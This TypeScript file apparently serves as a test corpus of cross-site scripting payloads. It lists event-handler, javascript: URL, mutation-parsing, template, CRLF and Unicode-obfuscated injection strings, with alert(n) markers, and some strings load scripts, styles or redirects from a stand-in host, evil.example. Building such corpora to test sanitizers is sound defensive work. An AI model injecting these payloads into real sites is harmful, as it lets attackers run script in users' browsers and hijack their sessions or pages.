/*
 * What people write into a field to make another's browser do something: `FIRE` stands for the call that tells on it.
 * Written by us from the known families: broken attributes, odd tags and handlers, scripts in addresses, markup that
 * changes when it is read a second time, foreign namespaces, templates, structured data, styles, and letters that hide.
 */

const elements = [
  "<script>FIRE</script>", "<script src=//evil.example/x.js></script>", "<script type=module>FIRE</script>", "<img src=x onerror=FIRE>", "<img src=x:x onerror=\"FIRE\">", "<image src=x onerror='FIRE'>",
  "<img/src=x/onerror=FIRE>", "<img src=x onerror\n=\nFIRE>", "<IMG SRC=x ONERROR=FIRE>", "<img src=x\fonerror=FIRE>", "<img srcset=x onerror=FIRE>", "<picture><source srcset=x><img onerror=FIRE></picture>",
  "<svg onload=FIRE>", "<svg><script>FIRE</script></svg>", "<svg><script href=data:text/javascript,FIRE />", "<svg><animate onbegin=FIRE attributeName=x dur=1s>", "<svg><set onbegin=FIRE attributeName=x>",
  "<svg><a xlink:href=javascript:FIRE><text y=9>x</text></a></svg>", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='FIRE'/></svg>#x\"></svg>",
  "<svg><foreignObject><img src=x onerror=FIRE></foreignObject></svg>", "<svg><style><img src=x onerror=FIRE></style></svg>", "<svg><image href=//evil.example/i.png></svg>",
  "<math><mtext><img src=x onerror=FIRE></mtext></math>", "<math href=javascript:FIRE>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:FIRE>x</maction></math>",
  "<body onload=FIRE>", "<body onpageshow=FIRE>", "<html onload=FIRE>", "<frameset onload=FIRE>", "<iframe onload=FIRE>", "<iframe src=javascript:FIRE></iframe>", "<iframe srcdoc='<script>parent.FIRE</script>'></iframe>",
  "<iframe srcdoc=\"&lt;img src=x onerror=parent.FIRE&gt;\"></iframe>", "<iframe src=//evil.example></iframe>", "<iframe src=\"data:text/html,<script>parent.FIRE</script>\"></iframe>", "<object data=javascript:FIRE></object>",
  "<object data=x onerror=FIRE></object>", "<object data=\"data:text/html,<script>FIRE</script>\"></object>", "<embed src=javascript:FIRE>", "<embed src=//evil.example/x.swf>", "<video src=x onerror=FIRE></video>",
  "<video><source onerror=FIRE></video>", "<video poster=//evil.example/p.png></video>", "<audio src=x onerror=FIRE></audio>", "<details open ontoggle=FIRE>x</details>", "<input autofocus onfocus=FIRE>",
  "<select autofocus onfocus=FIRE><option>x</select>", "<textarea autofocus onfocus=FIRE></textarea>", "<button autofocus onfocus=FIRE>x</button>", "<a href=# autofocus onfocus=FIRE tabindex=1>x</a>", "<p tabindex=1 autofocus onfocus=FIRE>x</p>",
  "<input type=image src=x onerror=FIRE>", "<marquee onstart=FIRE>x</marquee>", "<style onload=FIRE></style>", "<link rel=stylesheet href=//evil.example/x.css onerror=FIRE>", "<link rel=preload as=script href=//evil.example/x.js>",
  "<style>@import '//evil.example/x.css'</style>", "<style>*{background:url(//evil.example/b.png)}</style>", "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=FIRE>x</p>", "<p style=\"background:url(//evil.example/s.png)\">x</p>",
  "<p style=\"width:expression(FIRE)\">x</p>", "<p style=\"transition:1s\" ontransitionend=FIRE>x</p>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<meta http-equiv=refresh content=\"0;url=javascript:FIRE\">",
  "<form action=javascript:FIRE><button autofocus>x</button></form>", "<form id=f></form><button form=f formaction=javascript:FIRE>x</button>", "<isindex type=image src=x onerror=FIRE>", "<keygen autofocus onfocus=FIRE>", "<bgsound src=javascript:FIRE>",
  "<xss contenteditable autofocus onfocus=FIRE>x</xss>", "<template><script>FIRE</script></template>", "<template shadowrootmode=open><img src=x onerror=FIRE></template>", "<dialog open onclose=FIRE><form method=dialog><button autofocus>x</button></form></dialog>",
  "<slot onslotchange=FIRE>x</slot>", "<portal src=javascript:FIRE></portal>", "<object><param name=src value=javascript:FIRE></object>", "<div popover id=pop onbeforetoggle=FIRE>x</div><button popovertarget=pop autofocus>x</button>",
  "<table background=javascript:FIRE><tr><td>x</table>", "<img dynsrc=javascript:FIRE lowsrc=javascript:FIRE>", "<layer src=//evil.example></layer>", "<x onclick=FIRE id=x autofocus tabindex=0>x</x>",
]

/** What ends the place where a text stands: an element's text, an attribute, a script, a comment. */
const ways = [
  "", "\">", "'>", "`>", "\" x=\"", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</noembed></noframes></iframe></xmp>", "</template>", "</select></option>", "-->", "--!>", "]]>", "</svg></math>", "</p></div></main>", "\\\"})</script>",
]

/** What changes when it is written out and read again, and what parsers disagree about. */
const twoReadings = [
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=FIRE&gt;\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=FIRE>",
  "<svg></p><style><a id=\"</style><img src=1 onerror=FIRE>\">", "<svg><p><style><g title=\"</style><img src=x onerror=FIRE>\">", "<math></p><style><!--</style><img src/onerror=FIRE>", "<math></br><style><!--</style><img src/onerror=FIRE>--></style>",
  "<noscript><p title=\"</noscript><img src=x onerror=FIRE>\">", "<noembed><p title=\"</noembed><img src=x onerror=FIRE>\">", "<noframes><p title=\"</noframes><img src=x onerror=FIRE>\">", "<iframe><p title=\"</iframe><img src=x onerror=FIRE>\">",
  "<xmp><p title=\"</xmp><img src=x onerror=FIRE>\">", "<textarea><p title=\"</textarea><img src=x onerror=FIRE>\">", "<title><p title=\"</title><img src=x onerror=FIRE>\">", "<style><p title=\"</style><img src=x onerror=FIRE>\">", "<plaintext><p title=\"<img src=x onerror=FIRE>\">",
  "<a href=\"/x\"><svg><style>{font-family&colon;'<iframe/onload=FIRE>'", "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=FIRE>", "<svg><xmp><b><![CDATA[</xmp><img src=x onerror=FIRE>]]>",
  "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=FIRE>\">", "<![CDATA[<img src=x onerror=FIRE>]]>", "<!--[if gte IE 4]><script>FIRE</script><![endif]-->", "<!--><img src=x onerror=FIRE>-->", "<!-- --!><img src=x onerror=FIRE>", "<!-->-><script>FIRE</script>",
  "<?xml version=\"1.0\"?><img src=x onerror=FIRE>", "<!DOCTYPE x [<!ENTITY a \"<img src=x onerror=FIRE>\">]>&a;", "<p title=\"&quot;><img src=x onerror=FIRE>\">x</p>", "<p title='&#39;><img src=x onerror=FIRE>'>x</p>", "<p title=`><img src=x onerror=FIRE>`>x</p>",
  "<scr<script>ipt>FIRE</scr</script>ipt>", "<<script>script>FIRE<</script>/script>", "<img src=\"x` `<script>FIRE</script>\"` `>", "<a<img src=x onerror=FIRE>", "<p<script>FIRE</script>", "</p/onclick=FIRE><img src=x onerror=FIRE", "<\u0000script>FIRE</script>", "<\tscript>FIRE</script>",
  "&lt;script&gt;FIRE&lt;/script&gt;", "&amp;lt;img src=x onerror=FIRE&amp;gt;", "&#x3c;img src=x onerror=FIRE&#x3e;", "&#60img src=x onerror=FIRE&#62", "\\u003cimg src=x onerror=FIRE\\u003e", "%3Cimg%20src=x%20onerror=FIRE%3E", "\uff1cimg src=x onerror=FIRE\uff1e", "+ADw-script+AD4-FIRE+ADw-/script+AD4-",
  "<table><td><a href=\"/x\"><table><style><!--</style></a><img src=x onerror=FIRE>", "<ul><li><p><ol></ul><math><mi><li><ul><svg><style><img src=x onerror=FIRE></style>", "<p><ul><li><svg><desc><ul><img src=x onerror=FIRE></desc>", "<strong><p><a><math><annotation-xml encoding=\"text/html\"><img src=x onerror=FIRE>",
  "<form id=x><input name=attributes><input name=childNodes><img src=x onerror=FIRE>", "<img name=getElementById><img name=createElement><a id=location href=javascript:FIRE>x</a>", "<form name=__reactRouterContext><input name=state value=FIRE></form>", `${"<p>".repeat(600)}<img src=x onerror=FIRE>`,
]

/** Addresses that run, in links and wherever an address stands. */
export const hostileAddresses = [
  "javascript:FIRE", "JaVaScRiPt:FIRE", " javascript:FIRE", "\u0001javascript:FIRE", "java\nscript:FIRE", "java\tscript:FIRE", "java\rscript:FIRE", "javascript\n:FIRE", "javascript:/*--></title></style></textarea></script>*/FIRE", "javascript:%61lert(1)//FIRE", "javascript://%0aFIRE",
  "javascript&colon;FIRE", "&#106;avascript:FIRE", "&#x6A&#x61vascript:FIRE", "data:text/html,<script>FIRE</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=FIRE>", "vbscript:FIRE", "livescript:FIRE", "view-source:javascript:FIRE", "blob:FIRE",
  "feed:javascript:FIRE", "jar:javascript:FIRE", "\\\\evil.example", "//evil.example", "/\\evil.example", "/\t/evil.example", "https:evil.example", "https:///evil.example", "http://evil.example", "x\" onclick=\"FIRE", "x' onfocus='FIRE' autofocus='", "/x\"><img src=x onerror=FIRE>",
]

const inTexts = [
  "{{constructor.constructor('FIRE')()}}", "${FIRE}", "<%= FIRE %>", "#{FIRE}", "[[FIRE]]", "\";FIRE;//", "';FIRE;//", "`;FIRE;//", "\\\";FIRE;//", "</script><script>FIRE//", "\"}</script><script>FIRE</script>", "\"]}}</script><img src=x onerror=FIRE>", "<!--<script>FIRE//--></script>",
  "\u2028FIRE\u2029", "\u202e>tpircs/<ERIF>tpircs<\u202c", "\u200b<script>FIRE</script>", "\ufeff<img src=x onerror=FIRE>", "<ſcript>FIRE</ſcript>", "<ıframe srcdoc='<script>parent.FIRE</script>'>", "%0d%0aContent-Type:text/html%0d%0a%0d%0a<script>FIRE</script>",
  "\r\nX: y\r\n\r\n<script>FIRE</script>", "}*{background:url(//evil.example/c.png)}", ";background:url(//evil.example/d.png)", "</style><style>*{background:url(//evil.example/e.png)}", "__proto__", "constructor", "window.__reactRouterContext.streamController.enqueue('FIRE')", "?>FIRE<?", "<![CDATA[]]><x>",
]

const addressed = hostileAddresses.flatMap((address) => [`<a href="${address}">x</a>`, `<a href='${address}' target=_blank>x</a>`, `<a xlink:href="${address}" href=${address.replaceAll(/\s/g, "")}>x</a>`])

/** Every hostile text, each with a call of its own number: `alert(7)`. */
export const injections: string[] = [...elements.flatMap((element, index) => [element, (ways[1 + (index % (ways.length - 1))] ?? "") + element]), ...ways.map((way) => `${way}<img src=x onerror=FIRE>`), ...ways.map((way) => `${way}<svg/onload=FIRE>`), ...twoReadings, ...addressed, ...inTexts]
  .map((text, index) => text.replaceAll("FIRE", `alert(${index})`))
